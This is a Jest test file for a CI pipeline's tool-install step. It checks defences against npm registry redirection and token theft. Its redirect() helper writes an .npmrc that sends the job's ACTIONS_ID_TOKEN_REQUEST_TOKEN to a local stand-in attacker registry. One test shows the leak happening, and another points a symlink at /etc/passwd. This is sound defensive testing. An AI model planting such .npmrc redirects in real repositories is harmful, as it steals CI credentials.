/** Attacks on the step that installs the tools in a job with a token: a registry of the attacker, and files that redirect npm. */
import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

jest.setTimeout(120_000);

const SECRET = 'request-token-of-the-job';
const scratch = mkdtempSync(join(tmpdir(), 'tools-'));
let requests: { readonly url: string; readonly headers: IncomingHttpHeaders }[] = [];
let registry: string;
const server = createServer((request, response) => {
  requests.push({ url: request.url ?? '', headers: request.headers });
  response.end(readFileSync(join(scratch, 'tool.tgz')));
});

beforeAll(async () => {
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  registry = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  mkdirSync(join(scratch, 'package'));
  const manifest = { name: 'tool', version: '1.0.0', scripts: { preinstall: 'touch ran' } };
  writeFileSync(join(scratch, 'package/package.json'), JSON.stringify(manifest));
  expect(spawnSync('tar', ['-czf', 'tool.tgz', 'package'], { cwd: scratch })).toMatchObject({ status: 0 });
});
beforeEach(() => {
  requests = [];
});
afterAll(async () => {
  server.closeAllConnections();
  server.close();
  await once(server, 'close');
  rmSync(scratch, { recursive: true });
});

/** A checkout whose lock file names one package of the registry. */
function checkout(): string {
  const dir = mkdtempSync(join(scratch, 'checkout-'));
  for (const file of ['pipeline.sh', 'settings.tf.json']) cpSync(join('examples/pipelines', file), join(dir, file));
  const dependencies = { tool: '1.0.0' };
  writeFileSync(join(dir, 'package.json'), JSON.stringify({ dependencies }));
  const lock = {
    lockfileVersion: 3,
    packages: {
      '': { dependencies },
      'node_modules/tool': { version: '1.0.0', resolved: `http://${registry}/tool.tgz`, hasInstallScript: true },
    },
  };
  writeFileSync(join(dir, 'package-lock.json'), JSON.stringify(lock));
  return dir;
}

async function runStep(dir: string, args: readonly string[], env: Readonly<Record<string, string>> = {}) {
  const home = join(dir, '..', 'home');
  const child = spawn('./pipeline.sh', args, {
    cwd: dir,
    env: { PATH: process.env['PATH'], HOME: home, ACTIONS_ID_TOKEN_REQUEST_TOKEN: SECRET, ...env },
    stdio: ['ignore', 'ignore', 'pipe'],
    timeout: 60_000,
  });
  let stderr = '';
  child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
  const [code] = (await once(child, 'close')) as [number | null];
  return { code, stderr };
}

const install = (dir: string, env?: Readonly<Record<string, string>>) =>
  runStep(dir, ['tools', join(dir, '..', 'tools')], env);

/** Sends the job's request token to the registry, as npm reads this file. */
const redirect = () => `registry=http://${registry}/\n//${registry}/:_authToken=\${ACTIONS_ID_TOKEN_REQUEST_TOKEN}\n`;

test('npm installs what the lock file names, and runs no script of it', async () => {
  expect(await install(checkout())).toEqual({ code: 0, stderr: '' });
  expect(existsSync(join(scratch, 'tools/node_modules/tool/package.json'))).toBe(true);
  expect(existsSync(join(scratch, 'tools/node_modules/tool/ran'))).toBe(false);
  expect(requests.map(({ url }) => url)).toEqual(['/tool.tgz']);
});

test('without this step, a .npmrc sends the token of the job to another registry', async () => {
  const dir = checkout();
  writeFileSync(join(dir, '.npmrc'), redirect());
  const env = { ...process.env, ACTIONS_ID_TOKEN_REQUEST_TOKEN: SECRET };
  const child = spawn('npm', ['ci', '--ignore-scripts'], { cwd: dir, env, stdio: 'ignore', timeout: 60_000 });
  await once(child, 'close');
  expect(requests.map(({ headers }) => headers.authorization)).toContain(`Bearer ${SECRET}`);
});

test.each(['.npmrc', 'npm-shrinkwrap.json', 'organization/.npmrc'])('a branch with %s is refused', async (name) => {
  const dir = checkout();
  mkdirSync(join(dir, 'organization'));
  writeFileSync(join(dir, name), redirect());
  const stderr = `pipeline.sh: Cannot use this branch: ./${name} is not allowed in it. Remove the file.\n`;
  expect(await install(dir)).toEqual({ code: 1, stderr });
  expect(requests).toEqual([]);
});

test.each(['out', 'report', 'organization.ts'])('a branch with a link as %s is rejected', async (name) => {
  const dir = checkout();
  symlinkSync('.github', join(dir, name));
  const { code, stderr } = await install(dir);
  expect({ code, stderr }).toEqual({ code: 1, stderr: expect.stringContaining(`./${name} is not allowed`) as string });
  expect(requests).toEqual([]);
});

test('a branch that commits a file of the steps is refused', async () => {
  const dir = checkout();
  mkdirSync(join(dir, 'out'));
  writeFileSync(join(dir, 'out/digest'), 'a'.repeat(64));
  for (const args of [
    ['init', '-q'],
    ['add', '-f', 'out/digest'],
  ])
    expect(spawnSync('git', args, { cwd: dir })).toMatchObject({ status: 0 });
  expect(await install(dir)).toMatchObject({ code: 1, stderr: expect.stringContaining('out/digest is not allowed') });
});

test('npm reads no configuration of the user or of the environment, and gets no token', async () => {
  const home = join(scratch, 'home');
  mkdirSync(home, { recursive: true });
  writeFileSync(join(home, '.npmrc'), redirect());
  const ended = await install(checkout(), {
    NPM_CONFIG_USERCONFIG: join(home, '.npmrc'),
    [`npm_config_//${registry}/:_authToken`]: SECRET,
  });
  expect(ended.code).toBe(0);
  expect(requests.map(({ headers }) => headers.authorization)).toEqual([undefined]);
});

test('a stack that is a link is not read', async () => {
  const dir = checkout();
  const stack = join(scratch, 'stack.json');
  symlinkSync('/etc/passwd', stack);
  const stderr = `pipeline.sh: Cannot read ${stack}: it is not a regular file. Run the step synth, or name its stack.json.\n`;
  expect(await runStep(dir, ['plan', stack], { STATE_URL: 'http://127.0.0.1:9' })).toEqual({ code: 2, stderr });
});
